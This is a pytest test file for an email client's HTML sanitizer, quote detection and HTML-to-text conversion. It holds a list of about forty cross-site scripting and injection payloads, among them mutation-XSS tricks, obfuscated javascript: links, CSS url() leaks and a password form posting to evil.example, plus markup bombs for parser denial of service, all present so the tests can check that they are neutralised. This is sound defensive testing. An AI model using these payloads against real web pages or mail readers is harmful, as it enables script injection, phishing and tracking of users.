"""Hostile and merely bad HTML: what reaches the page, and what it costs."""

from __future__ import annotations

import html
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.mail.reading.markup import MAX_DEPTH, bounded
from hub.mail.reading.quotes import quoted_from, split_quote
from hub.mail.reading.sanitize import QUOTE_CLASSES, QUOTE_IDS, html_to_text, safe_html, safe_style, text_to_html


def safe(text: str, *, allow_remote: bool = False) -> str:
    return safe_html(text, cid_url={"logo@x": "/attachments/7"}.get, allow_remote=allow_remote)


ATTACKS = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example/x'>x</a><a href='/logout'>x</a>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example><input name=password><button>x</button></form>",
    "<iframe src=http://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<img src=x onerror=alert(1)><img src='javascript:alert(1)'><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='http://evil.example/x 2x'><video poster=http://evil.example/x></video>",
    "<table background='http://evil.example/x'><tr><td background='http://evil.example/x'>x</table>",
    "<p style='background:url(http://evil.example/x)'>x</p><p style='background-image:url(//evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9;width:100%;height:100%'>x</p>",
    "<p style='p\\6fsition:fixed'>x</p><p style='margin-top:-999px'>x</p><p style='transform:scale(99)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p><p style='color:red;/**/position:fixed'>x</p>",
    "<div hx-get='/logout' hx-trigger=load data-hx-get=/x id=app class=modal sse-connect=/x>x</div>",
    "<div data-remote-src='javascript:alert(1)'>x</div>",
    "<p title='\" onmouseover=alert(1) x=\"'>x</p>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><select><img src=x onerror=alert(1)></select>",
    "<a/href='javascript:alert(1)'/x=`>`><b/onclick=alert(1)>x",
    "<img src='http://evil.example/\" onload=\"alert(1)'>",
    "<a href=https://x.example ping=http://evil.example>x</a><button formaction=javascript:alert(1)>x</button>",
    "<template><template><img src=x onerror=alert(1)></template></template><b onpointerrawupdate=alert(1)>x</b>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<a href='&#106;&#97;vascript&#x3a;alert(1)'>x</a><a href='&Tab;java&NewLine;script:alert(1)'>x</a>",
    "<svg><foreignObject><p><iframe src=http://evil.example></foreignObject></svg><use href=data:x>",
    "<math href='javascript:alert(1)'><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style><![CDATA[<script>alert(1)</script>]]>",
    "<p style='background:\\75rl(http://evil.example)'>x</p><p style=\"font-family:'x';@import 'y'\">x</p>",
    "<div id=divRplyFwdMsg2 class='gmail_quote modal' style='z-index:9'>x</div><details open ontoggle=alert(1)>x",
    "<blockquote type=text/javascript cite='javascript:alert(1)' class=hub-secret>x</blockquote>",
    "<a href='https://x.example' data-leads-to='bank.example' download=x.exe>x</a><img usemap=#m><map name=m>x</map>",
    "<picture><source srcset=http://evil.example/x><img src=x></picture><input type=image src=http://evil.example/x>",
    "<p dir=rtl lang='\"><script>alert(1)</script>'>x</p><marquee onstart=alert(1)>x</marquee><isindex action=x>",
]

_TAG = re.compile(r"<([a-z][a-z0-9]*)((?:\s[a-z-]+=\"[^\"]*\")*)\s*/?>")
_ALLOWED_NAMES = set(
    "align dir lang style title bgcolor valign href span width color size face src alt height value start type border "
    "cellpadding cellspacing colspan rowspan nowrap rel target loading referrerpolicy decoding data-remote-src "
    "class id type".split()
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("allow_remote", [False, True])
def test_nothing_of_an_attack_is_left(attack: str, allow_remote: bool) -> None:
    got = safe(f"<p>before</p>{attack}<p>after</p>", allow_remote=allow_remote)
    rest = _TAG.sub("", got)
    assert not re.search(r"<(?!/[a-z0-9]+>)", rest), f"something that is no plain tag: {got}"
    for name, attributes in _TAG.findall(got):
        assert name not in ("script", "svg", "math", "style", "iframe", "form", "input", "base", "meta", "link"), got
        for key, value in re.findall(r"\s([a-z-]+)=\"([^\"]*)\"", attributes):
            assert key in _ALLOWED_NAMES, got
            value = html.unescape(value)
            if key in ("href", "src", "data-remote-src"):
                assert re.match(r"https?://[^\s/]|mailto:|tel:|/attachments/", value), got
            if key == "src" and not allow_remote:
                assert value.startswith("/attachments/"), got
            if key in ("class", "id"):
                assert set(value.split()) <= QUOTE_CLASSES | QUOTE_IDS, got
            if key == "style":
                assert not re.search(r"url|expression|position|fixed|transform|-\d|@|\\|/\*", value), got


def test_an_ordinary_mail_keeps_its_looks() -> None:
    mail = (
        '<html><head><style>p{color:red}</style></head><body bgcolor="#fff"><table width=600 cellpadding="0"><tr>'
        '<td style="font: bold 14px/1.5 Arial, sans-serif; color: #333; padding:10px 0" align=center>'
        'Привет, <b>Иван</b>!<br><a href="https://shop.example/?a=1&amp;b=2">Заказ</a></td></tr></table>'
    )
    got = safe(mail)
    assert re.sub(r" [\w-]+=\"[^\"]*\"", "", got) == (
        "<table><tbody><tr><td>Привет, <b>Иван</b>!<br><a>Заказ</a></td></tr></tbody></table>"
    )
    assert sorted(re.findall(r"[\w-]+=\"[^\"]*\"", got)) == sorted(
        [
            'width="600"',
            'cellpadding="0"',
            'style="font: bold 14px/1.5 Arial, sans-serif; color: #333; padding: 10px 0"',
            'align="center"',
            'href="https://shop.example/?a=1&amp;b=2"',
            'target="_blank"',
            'rel="noopener noreferrer nofollow"',
        ]
    )


def test_attached_pictures_are_shown_and_remote_ones_wait_for_a_person() -> None:
    mail = '<img src="cid:logo@x"><img src="cid:gone@x"><img src="https://t.example/p.gif?u=1&amp;v=%22" width=1>'
    blocked = safe(mail)
    assert 'src="/attachments/7"' in blocked
    assert ' data-remote-src="https://t.example/p.gif?u=1&amp;v=%22"' in blocked
    assert ' src="https' not in blocked and "cid:" not in blocked
    assert ' src="https://t.example/p.gif?u=1&amp;v=%22"' in safe(mail, allow_remote=True)
    for tag in re.findall("<img[^>]*>", blocked):
        assert 'referrerpolicy="no-referrer"' in tag


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: RED; FONT-size:12px", "color: RED; font-size: 12px"),
        ("background: #ff0", "background-color: #ff0"),
        ("background: #ff0 url(x)", ""),
        ("color: rgb(1, 2, 3) !important", "color: rgb(1, 2, 3) !important"),
        ("margin: 0 -20px", ""),
        ("margin: 0 auto; top: 0; position:absolute", "margin: 0 auto"),
        ("display: flex; display: none", "display: none"),
        ("width: calc(100vw)", ""),
        ("width: var(--x)", ""),
        ("color", ""),
    ],
)
def test_only_harmless_declarations_stay(style: str, kept: str) -> None:
    assert safe_style(style) == kept


BOMBS = {
    "divs": "<div>" * 300_000,
    "attributes": "<p " + "".join(f"a{n} " for n in range(250_000)) + ">x",
    "attributes behind a style": '<style><a x="</style><b ' + "".join(f"a{n} " for n in range(250_000)) + '" ">x',
    "formatting": "".join(f"<font color=c{n}>" for n in range(3_000)) + "<p>x" * 100_000,
    "formatting in table": "<table>" + "<b><a href=x>" * 30_000 + "<p>x" * 30_000,
    "unclosed tags": "<a" * 500_000,
    "unclosed quotes": "<a b='" * 200_000,
    "comments": "<!--" * 300_000,
    "end tags": "<div><span></div></b></p>" * 50_000,
    "raw text": "<style><title>" * 100_000,
    "blanks": "<p" + " " * 1_000_000 + "=" + " " * 900_000,
    "entities": "&amp;" * 300_000,
    "tables": "<table><tr><td>" * 60_000,
    "style": f"<p style='{'a:b;' * 300_000}'>" * 2,
    "options": "<select>" * 100_000 + "<option>" * 100_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_markup_bombs_are_made_safe_in_bounded_time(name: str) -> None:
    began = time.process_time()
    safe(BOMBS[name])
    html_to_text(BOMBS[name])
    took_s = time.process_time() - began
    assert took_s < 3, f"{name}: {took_s:.2f} s"


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*"<>/='\" x", "<p>", "</p>", "<b a=1>", "</b>", "<td>", "<table>", "</table>", "<li>", "<!--", "-->"]
        ),
        max_size=60,
    ).map("".join)
)
def test_bounded_markup_is_balanced_and_keeps_the_text(markup: str) -> None:
    got = bounded(markup)
    depth = 0
    for tag in re.findall(r"<(/?)([a-z]+)", got):
        if tag[1] not in ("br",):
            depth += -1 if tag[0] else 1
        assert 0 <= depth <= MAX_DEPTH
    assert depth == 0
    assert bounded(got) == got or "&lt;" in got
    html_to_text(markup)


def test_deep_quotes_keep_their_text() -> None:
    mail = "<blockquote>x" * 500 + "the end"
    assert "the end" in safe(mail)
    assert "the end" in html_to_text(mail)


def test_html_is_read_as_a_person_reads_it() -> None:
    mail = "<style>p{}</style><title>t</title><p>Привет,<br>Иван!</p><ul><li>раз<li>два</ul><p>a&nbsp;b</p><!-- x -->"
    assert html_to_text(mail) == "Привет,\nИван!\n\n  * раз\n  * два\n\na b"
    assert html_to_text("") == html_to_text("<!-- -->") == html_to_text("<p></p>") == ""


def test_plain_text_becomes_html_with_links_and_nothing_else() -> None:
    got = text_to_html('см. https://x.example/a?b=1&c="2".\r\n<script>i@x.example</script>')
    assert "<script" not in got and "&lt;script&gt;" in got and "<br>\n" in got
    assert 'href="https://x.example/a?b=1&amp;c="' in got
    assert 'href="mailto:i@x.example"' in got
    assert text_to_html('https://x.example/"onmouseover="alert(1)').count('"') == 6
    began = time.process_time()
    text_to_html("a." * 500_000 + "@" * 1000 + "http://" * 100_000)
    assert time.process_time() - began < 3


QUOTES = [
    ("Да, согласен.\n\n", "пн, 3 нояб. 2025 г. в 10:12, Иван Петров <i@x.example>:\n\n> Вы согласны?"),
    ("Да.\n\n", "Пн, 3 нояб. 2025 г. в 10:12, Иван Петров <i@x.example> пишет:\n> Вы согласны?\n"),
    ("Да.\n", "3 ноября 2025 г. 10:12:00 пользователь Иван (i@x.example) написал:\nВы согласны?"),
    ("Да.\n", "03.11.2025 10:12, Иван Петров пишет:\n> Вы согласны?\n> Иван\n"),
    ("Так.\n", "пн, 3 лист. 2025 р. о 10:12 Іван <i@x.example> пише:\n> Згода?"),
    ("Yes.\n\n", "On Mon, Nov 3, 2025 at 10:12 AM Ivan Petrov\n<i@x.example> wrote:\n\n> Do you agree?"),
    ("Yes.\n\n", "On 03/11/2025 10:12, Ivan wrote:\n> Do you agree?\n\n-- \nBoss"),
    ("Да.\n\n", "-----Original Message-----\nFrom: Ivan\nSent: Monday\nTo: x\nSubject: y\n\nAgree?"),
    ("Да.\n\n", "От: Иван Петров <i@x.example>\nОтправлено: 3 ноября 2025 г. 10:12\nКому: Мария\nТема: Счёт\n\nТекст"),
    ("Да.\n", "________________________________\nОт: Иван\nОтправлено: 3 ноября\nКому: М\nТема: С\n\nТекст"),
    ("Да.\n", "-------- Пересылаемое сообщение --------\n03.11.2025, 10:12, Иван:\nТекст"),
    ("Да.\n\n", "> Вы согласны?\n> Иван"),
    ("", "> Только цитата"),
]


@pytest.mark.parametrize(("own", "quoted"), QUOTES)
def test_the_quoted_part_is_found(own: str, quoted: str) -> None:
    assert split_quote(own + quoted) == (own, quoted)
    assert quoted_from(own + quoted) == len(own)


@pytest.mark.parametrize(
    "text",
    [
        "Просто письмо.\nБез цитат.",
        "В 2019 году он писал: всё будет хорошо.\nИ было.",
        "> Вы согласны?\nДа.\n> Когда?\nЗавтра.",
        "On Mon, Nov 3, 2025 at 10:12 Ivan <i@x.example> wrote:\n> a?\nyes\n> b?\nno",
        "От: Москвы до Питера 700 км.\nЕдем завтра.",
        "",
        "From: the start we knew\nthat",
    ],
)
def test_what_is_no_quote_below_an_answer_stays_whole(text: str) -> None:
    assert split_quote(text) == (text, "")
    assert quoted_from(text) is None


@pytest.mark.parametrize(
    "unit", [">\n", "> a\nb\n", "On 2025 x\n", "03.11.2025 10:12, a пишет:\n", "От: x\n", "__________\n"]
)
def test_quotes_are_split_in_linear_time(unit: str) -> None:
    text = unit * 60_000 + "own"
    began = time.process_time()
    assert "".join(split_quote(text)) == text
    assert time.process_time() - began < 2
